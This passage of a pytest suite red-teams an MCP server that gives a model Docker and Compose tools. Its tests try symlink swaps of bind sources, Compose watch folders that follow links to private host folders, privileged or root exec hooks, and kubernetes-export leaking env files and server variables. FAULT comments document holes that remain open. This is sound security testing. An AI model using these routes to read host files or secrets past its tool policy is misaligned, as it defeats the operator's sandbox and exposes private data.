                    "volumes": [{"host_path": str(shared / "data"), "container_path": "/data"}],
                    "restart_policy": "on-failure:3",
                    "labels": {LABEL_KEY: RUN_ID},
                },
            )
        )
        swapper = await c.call_tool(
            "run-container",
            {
                "image": test_image,
                "command": ["sh", "-c", f"rm -r /w/data && ln -s {private} /w/data"],
                "volumes": [{"host_path": str(shared), "container_path": "/w"}],
                "detach": False,
                "auto_remove": True,
                "labels": {LABEL_KEY: RUN_ID},
            },
        )
    container = docker_client.containers.get(first["id"])
    if swapper.is_error:  # refused: its writable bind holds the other container's bind source
        container.remove(force=True)
        assert "nested-bind" in text_of(swapper)
        assert not (shared / "data").is_symlink()
        return
    assert (shared / "data").is_symlink()
    logs = b""
    deadline = time.monotonic() + 20
    while CANARY.encode() not in logs and time.monotonic() < deadline:
        await anyio.sleep(0.5)
        logs = container.logs()
    container.remove(force=True)
    assert CANARY.encode() not in logs, f"the engine's restart mounted {private}"


# --------------------------------------------------------------------------- compose-stack watch


WATCH = """\
services:
  app:
    image: {image}
    command: ["sleep", "60"]
    {develop}:
      watch:
        - action: {action}
          path: {path}
          target: /app{exec}
"""


async def test_blocked_watch_paths_and_hooks_that_reach_the_host(
    unix_host: str,
    private: Path,
    tmp_path: Path,
    test_image: str,
    projects: list[str],
    docker_client: docker.DockerClient,
) -> None:
    # BLOCKED: a watched folder in the sensitive folder (directly, through `..`, through a
    # symlink in the project), the deprecated x-develop, and a privileged sync+exec are refused
    # before Compose creates anything.
    (tmp_path / "link").symlink_to(private)
    project = f"mcpd-rt3-{_short()}"
    projects.append(project)
    hook = '\n          exec:\n            command: ["id"]\n            privileged: true'
    cases = [
        ({"path": str(private)}, "sensitive-bind"),
        ({"path": "./link"}, "sensitive-bind"),
        ({"path": "./link/."}, "sensitive-bind"),
        ({"path": os.path.relpath(private, tmp_path)}, "sensitive-bind"),
        # (Compose 2.40 drops x-develop when it renders: nothing is left to watch)
        ({"develop": "x-develop", "path": "."}, "compose-key|nothing to watch"),
        ({"action": "sync+exec", "path": ".", "exec": hook}, "privileged"),
    ]
    async with server(unix_host, guarded(private)) as c:
        for case, rule in cases:
            fields = {"develop": "develop", "action": "sync", "exec": "", "image": test_image, **case}
            (tmp_path / "compose.yaml").write_text(WATCH.format(**fields))
            result = await c.call_tool(
                "compose-stack",
                {"compose_file": str(tmp_path / "compose.yaml"), "action": "watch", "project_name": project},
            )
            words = error_text(result)
            assert any(r in words for r in rule.split("|")), (case, words)
            assert CANARY not in words
    assert (
        docker_client.containers.list(all=True, filters={"label": f"com.docker.compose.project={project}"})
        == []
    )


@pytest.mark.parametrize("user", [None, "+0", "root", "0:1000"])
async def test_blocked_a_sync_exec_hook_as_root_when_root_exec_is_off(
    unix_host: str,
    tmp_path: Path,
    test_image: str,
    projects: list[str],
    docker_client: docker.DockerClient,
    user: str | None,
) -> None:
    # BLOCKED: with allow_root_exec = false a sync+exec command that would run as root (the
    # image's default user, or any spelling of uid 0) is refused, and the project it brought up
    # to judge the command is removed.
    (tmp_path / "src").mkdir()
    who = f'\n            user: "{user}"' if user is not None else ""
    hook = f'\n          exec:\n            command: ["id"]{who}'
    fields = {"develop": "develop", "action": "sync+exec", "path": "./src", "exec": hook, "image": test_image}
    (tmp_path / "compose.yaml").write_text(WATCH.format(**fields))
    project = f"mcpd-rt3-{_short()}"
    projects.append(project)
    async with server(unix_host, replace(Policy(), allow_root_exec=False)) as c:
        result = await c.call_tool(
            "compose-stack",
            {"compose_file": str(tmp_path / "compose.yaml"), "action": "watch", "project_name": project},
        )
    assert "root-exec" in error_text(result)
    label = f"com.docker.compose.project={project}"
    assert docker_client.containers.list(all=True, filters={"label": label}) == []


async def test_a_watch_does_not_sync_a_sensitive_folder_through_a_link_made_later(
    unix_host: str,
    private: Path,
    tmp_path: Path,
    test_image: str,
    projects: list[str],
    docker_client: docker.DockerClient,
) -> None:
    # FAULT: policy/develop.py judges the watched folder itself, once; `docker compose watch`
    # then follows a link to a folder made inside it (here by a container that binds the
    # project's src/, as the model can ask) and copies that folder's files into the service's
    # container: any host folder is read (Compose runs as the server's user), past the host-path
    # rule. Suggested: refuse sync watches (or watch a private copy), or judge each synced path
    # as it changes; at the least, refuse a watched folder holding links that leave it.
    (tmp_path / "src").mkdir()
    (tmp_path / "src" / "index.txt").write_text("v0\n")
    fields = {"develop": "develop", "action": "sync", "path": "./src", "exec": "", "image": test_image}
    (tmp_path / "compose.yaml").write_text(WATCH.format(**fields))
    project = f"mcpd-rt3-{_short()}"
    projects.append(project)
    label = f"com.docker.compose.project={project}"
    async with server(unix_host, guarded(private)) as c:
        ok(
            await c.call_tool(
                "compose-stack",
                {"compose_file": str(tmp_path / "compose.yaml"), "action": "watch", "project_name": project},
            )
        )
        # The link, made from inside a container that binds the (allowed) project folder.
        linker = await c.call_tool(
            "run-container",
            {
                "image": test_image,
                "command": ["ln", "-s", str(private), "/w/linked"],
                "volumes": [{"host_path": str(tmp_path / "src"), "container_path": "/w"}],
                "detach": False,
                "auto_remove": True,
                "labels": {LABEL_KEY: RUN_ID},
            },
        )
        if linker.is_error:  # refused: it would write into the folder the watch syncs
            assert "nested-bind" in text_of(linker)
            assert not (tmp_path / "src" / "linked").exists()
            ok(
                await c.call_tool(
                    "compose-stack",
                    {
                        "compose_file": str(tmp_path / "compose.yaml"),
                        "action": "down",
                        "project_name": project,
                    },
                )
            )
            return
        assert (tmp_path / "src" / "linked").is_symlink()
        (tmp_path / "src" / "index.txt").write_text("v1\n")
        (app,) = docker_client.containers.list(filters={"label": label})
        seen = ""
        deadline = time.monotonic() + 15
        while time.monotonic() < deadline:
            _, output = app.exec_run(["sh", "-c", "cat /app/linked/secret.txt /app/index.txt 2>/dev/null"])
            seen = output.decode(errors="replace") if isinstance(output, bytes) else str(output)
            if CANARY in seen or "v1" in seen:
                break
            await anyio.sleep(0.5)
        await c.call_tool(
            "compose-stack",
            {"compose_file": str(tmp_path / "compose.yaml"), "action": "unwatch", "project_name": project},
        )
    assert CANARY not in seen, f"the watch copied {private} into the container"


# --------------------------------------------------------------------------- kubernetes-export


KUBE = """\
services:
  web:
    image: {image}
    {key}: {path}
"""


@pytest.mark.parametrize("key", ["env_file", "label_file"])
async def test_kubernetes_export_does_not_read_a_sensitive_env_or_label_file(
    unix_host: str, private: Path, tmp_path: Path, test_image: str, key: str
) -> None:
    # FAULT: tools/kube.py _render runs check_inputs() then render(), never
    # judge_compose_config: Compose reads the env_file/label_file (here in a sensitive folder)
    # and its values come back in the YAML. compose-stack judges these paths.
    name = "app.env" if key == "env_file" else "app.labels"
    (tmp_path / "compose.yaml").write_text(KUBE.format(image=test_image, key=key, path=private / name))
    async with server(unix_host, guarded(private)) as c:
        compose = await c.call_tool(
            "compose-stack", {"compose_file": str(tmp_path / "compose.yaml"), "action": "config"}
        )
        exported = await c.call_tool("kubernetes-export", {"source": str(tmp_path / "compose.yaml")})
    assert CANARY not in str(compose.content)
    assert CANARY not in str(exported.content), f"kubernetes-export read {private / name}"
    assert "sensitive-bind" in error_text(exported)


async def test_blocked_kubernetes_export_of_a_compose_file_in_a_sensitive_folder(
    unix_host: str, private: Path, test_image: str
) -> None:
    # BLOCKED: the compose file itself (and an .env beside it) in a sensitive folder.
    (private / "compose.yaml").write_text(f"services:\n  web:\n    image: {test_image}\n")
    async with server(unix_host, guarded(private)) as c:
        for source in (str(private / "compose.yaml"), str(private)):
            result = await c.call_tool("kubernetes-export", {"source": source})
            assert "sensitive-bind" in error_text(result), source


async def test_kubernetes_export_does_not_print_an_unlisted_server_variable(
    unix_host: str, tmp_path: Path, test_image: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    # FAULT: a Compose secret read from a server variable needs secret_env_allowlist, but
    # `${VAR}` interpolation reads any variable of the server's environment (Compose runs with
    # it), and kubernetes-export prints the rendered value to the model (a name that does not
    # look secret is not redacted). Suggested: render with an environment reduced to the
    # allowlist (and PATH/HOME...), or refuse interpolation of unlisted variables.
    monkeypatch.setenv(SERVER_VARIABLE, CANARY)
    (tmp_path / "compose.yaml").write_text(
        f"services:\n  web:\n    image: {test_image}\n    environment:\n"
        f"      APP_SETTING: ${{{SERVER_VARIABLE}}}\n"
    )
    async with server(unix_host, Policy()) as c:
        exported = await c.call_tool("kubernetes-export", {"source": str(tmp_path / "compose.yaml")})
    assert CANARY not in str(exported.content)


async def test_kubernetes_export_hides_environment_values_as_inspect_does(
    client: Client, test_image: str
) -> None:
    # FAULT: inspect-container hides environment values unless show_env; kubernetes-export of the
    # same container prints every value whose name does not look secret (a value that was
    # hidden is as secret to the model either way). Suggested: values as secretKeyRef/<value>
    # placeholders unless the caller asks, as inspect-container's show_env does.
    run = ok(
        await client.call_tool(
            "run-container",
            {
                "image": test_image,
                "command": ["sleep", "60"],
                "environment": {"APP_SETTING": CANARY},
                "labels": {LABEL_KEY: RUN_ID},
            },
        )
    )
    inspected = await client.call_tool("inspect-container", {"container_id": run["id"]})
    assert CANARY not in str(inspected.content)
    exported = await client.call_tool("kubernetes-export", {"source": run["id"], "kind": "container"})
    assert CANARY not in str(exported.content)


async def test_kubernetes_export_honours_the_label_scope(
    unix_host: str, docker_client: docker.DockerClient, test_image: str, tmp_path: Path
) -> None:
    # BLOCKED: under label_scope, an unlabelled container and any Compose project are refused.
    container = docker_client.containers.create(test_image, ["true"], environment={"APP": CANARY})
    try:
        (tmp_path / "compose.yaml").write_text(f"services:\n  web:\n    image: {test_image}\n")
        async with server(unix_host, replace(Policy(), label_scope=f"{LABEL_KEY}={RUN_ID}")) as c:
            foreign = await c.call_tool("kubernetes-export", {"source": container.id, "kind": "container"})
            project = await c.call_tool("kubernetes-export", {"source": str(tmp_path / "compose.yaml")})
        assert "label-scope" in error_text(foreign)
        assert CANARY not in text_of(foreign)
        assert "label-scope" in error_text(project)
    finally:
        container.remove(force=True)
